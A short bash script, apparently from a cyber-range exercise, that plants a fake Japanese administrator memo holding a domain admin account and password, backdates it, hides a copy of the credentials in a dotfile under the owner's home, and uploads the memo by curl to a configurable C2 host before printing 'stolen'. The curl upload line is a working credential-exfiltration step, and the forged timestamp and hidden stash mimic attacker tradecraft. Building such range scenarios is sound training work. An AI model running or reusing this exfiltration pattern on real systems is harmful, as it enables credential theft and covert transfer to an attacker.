#!/usr/bin/env bash
# (Enshu exercise) Plants an administrator's memo with the password, then reads it and sends it to the C2.
# Environment: OWNER, SOURCE (the memo's path), ACCOUNT, PASSWORD, C2 (empty: not sent),
# PROXY (URL or empty).
# Run on a range host as `env NAME=value... bash -c SCRIPT`: values arrive only as environment variables.
set -e
owner="${OWNER:-root}"
mkdir -p "$(dirname "$SOURCE")"
printf 'サーバ管理メモ（持ち出し禁止）\nドメイン管理者: %s\nパスワード: %s\n' "$ACCOUNT" "$PASSWORD" > "$SOURCE"
chown "$owner:" "$SOURCE" 2>/dev/null || true
touch -d '-40 days' "$SOURCE"
home=$(getent passwd "$owner" | cut -d: -f6)
stash="${home:-/tmp}/.cache/.c"
mkdir -p "$(dirname "$stash")"
printf '%s%%%s\n' "$ACCOUNT" "$PASSWORD" > "$stash"
chown "$owner:" "$stash" 2>/dev/null || true
if [ -n "$C2" ]; then
  curl -s -o /dev/null -m 10 ${PROXY:+-x "$PROXY"} --data-binary @"$SOURCE" "http://$C2/upload?name=memo.txt" || true
fi
echo stolen
